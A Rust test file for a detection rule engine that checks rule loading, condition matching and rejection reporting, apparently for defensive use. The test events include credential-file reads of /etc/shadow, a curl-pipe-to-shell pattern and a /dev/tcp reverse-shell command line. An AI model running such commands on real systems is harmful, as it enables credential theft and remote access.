//! Rule loading and evaluation through files on disk, as the sensor and the CLI use them.

use std::path::Path;
use vigil_rules::{JsonEvent, LogSource, RuleError, RuleSet};

fn event(v: serde_json::Value) -> JsonEvent {
    match v {
        serde_json::Value::Object(m) => JsonEvent(m),
        _ => panic!("event must be an object"),
    }
}

fn load(text: &str) -> (RuleSet, vigil_rules::LoadReport) {
    let mut set = RuleSet::new();
    let mut report = vigil_rules::LoadReport::default();
    set.load_str(Path::new("t.yml"), text, &mut report);
    (set, report)
}

const LINUX_PROC: &str = "linux/process_creation";

#[test]
fn shipped_shadow_rule_matches_tools_not_editors_of_other_files() {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let (set, report) = RuleSet::load_paths(&[rules]);
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let src = LogSource::parse(LINUX_PROC);
    let hit = |image: &str, cmd: &str| {
        set.evaluate(
            &src,
            &event(serde_json::json!({"Image": image, "CommandLine": cmd})),
        )
        .iter()
        .any(|m| m.rule.id == "6b0e3f4a-9c1d-4f57-b0a8-3c2d7e5f9a11")
    };
    assert!(hit("/usr/bin/cat", "cat /etc/shadow"));
    assert!(hit("/usr/bin/base64", "base64 /etc/shadow"));
    assert!(hit("/bin/grep", "grep root /ETC/SHADOW"));
    assert!(hit("/usr/bin/cp", "cp /etc/gshadow /tmp/x"));
    assert!(!hit("/usr/bin/cat", "cat /etc/passwd"));
    assert!(!hit(
        "/usr/sbin/unix_chkpwd",
        "unix_chkpwd root /etc/shadow"
    ));
    // Other log sources are not evaluated against a linux process_creation rule.
    let win = LogSource::parse("windows/process_creation");
    assert!(
        set.evaluate(
            &win,
            &event(serde_json::json!({"Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow"}))
        )
        .is_empty()
    );
}

#[test]
fn conditions_selections_and_keywords() {
    let (set, report) = load(
        r#"
title: t
id: r1
logsource: {product: linux, category: process_creation}
detection:
  sel_a:
    Image|endswith: /curl
  sel_b:
    - CommandLine|contains|all: ['|', 'sh']
    - CommandLine|re: '^bash -i'
  _helper:
    User: root
  filter:
    CommandLine|contains: safe
  condition: 1 of sel_* and not filter
"#,
    );
    assert_eq!(report.loaded, 1, "{:?}", report.rejected);
    let src = LogSource::parse(LINUX_PROC);
    let m = |v| !set.evaluate(&src, &event(v)).is_empty();
    assert!(m(
        serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl x"})
    ));
    assert!(m(
        serde_json::json!({"Image": "/x", "CommandLine": "curl x | sh"})
    ));
    assert!(!m(
        serde_json::json!({"Image": "/x", "CommandLine": "curl x | python"})
    ));
    assert!(m(
        serde_json::json!({"Image": "/x", "CommandLine": "bash -i >& /dev/tcp/1.2.3.4/1"})
    ));
    assert!(
        !m(serde_json::json!({"Image": "/x", "CommandLine": "BASH -i"})),
        "re is case-sensitive"
    );
    assert!(!m(
        serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl safe"})
    ));
}

#[test]
fn them_excludes_underscore_and_null_means_absent() {
    let (set, report) = load(
        r#"
title: t
logsource: {product: linux}
detection:
  a:
    ParentImage: null
  _b:
    Image: /never
  condition: all of them
"#,
    );
    assert_eq!(report.loaded, 1, "{:?}", report.rejected);
    let src = LogSource::parse("linux/process_creation");
    assert_eq!(
        set.evaluate(&src, &event(serde_json::json!({"Image": "/x"})))
            .len(),
        1
    );
    assert!(
        set.evaluate(&src, &event(serde_json::json!({"ParentImage": "/p"})))
            .is_empty()
    );
    assert_eq!(
        set.rules()[0].id,
        "t",
        "a rule without id is named by its title"
    );
}

#[test]
fn rejections_name_file_line_id_and_reason_and_others_still_load() {
    let text = r#"title: good
id: good-1
logsource: {product: linux}
detection:
  s: {Image: /x}
  condition: s
---
title: bad modifier
id: bad-1
logsource: {product: linux}
detection:
  s:
    Image|bogus: /x
  condition: s
---
title: bad condition
id: bad-2
logsource: {product: linux}
detection:
  s: {Image: /x}
  condition: s and missing
---
title: correlation
correlation: {type: event_count, rules: [good-1], timespan: 5m}
"#;
    let (set, report) = load(text);
    assert_eq!(set.len(), 1);
    assert_eq!(report.to_string(), "1 loaded, 3 rejected");
    let r = &report.rejected[0];
    assert_eq!((r.id.as_deref(), r.line), (Some("bad-1"), 13));
    assert_eq!(
        r.error,
        RuleError::UnknownModifier {
            field: "Image".into(),
            modifier: "bogus".into()
        }
    );
    assert_eq!(
        report.rejected[1].error,
        RuleError::UnknownSelection("missing".into())
    );
    assert_eq!(report.rejected[1].line, 21);
    assert_eq!(report.rejected[2].error, RuleError::Correlation);
    assert!(
        report.rejected[0]
            .to_string()
            .starts_with("t.yml:13: rule bad-1: unknown modifier")
    );
}

#[test]
fn malformed_yaml_and_unsupported_forms_are_rejections_not_panics() {
    for text in [
        "title: [unclosed",
        "- just\n- a list",
        "title: t\nlogsource: 5\ndetection: {s: {a: 1}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|re': '('}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {'a|base64': 'x'}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}, condition: 's | count() > 5'}",
        "title: t\nlogsource: {}\ndetection: {s: {a: []}, condition: s}",
        "title: t\nlogsource: {}\nlevel: severe\ndetection: {s: {a: 1}, condition: s}",
    ] {
        let (set, report) = load(text);
        assert_eq!(
            (set.len(), report.rejected.len()),
            (0, 1),
            "{text:?} → {:?}",
            report.rejected
        );
    }
}

#[test]
fn unreadable_paths_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("a.yml"),
        "title: t\nlogsource: {}\ndetection: {s: {a: 1}, condition: s}\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
    let missing = dir.path().join("missing");
    let (set, report) = RuleSet::load_paths(&[dir.path().to_path_buf(), missing.clone()]);
    assert_eq!(set.len(), 1);
    assert_eq!(report.rejected.len(), 1);
    assert_eq!(report.rejected[0].path, missing);
}
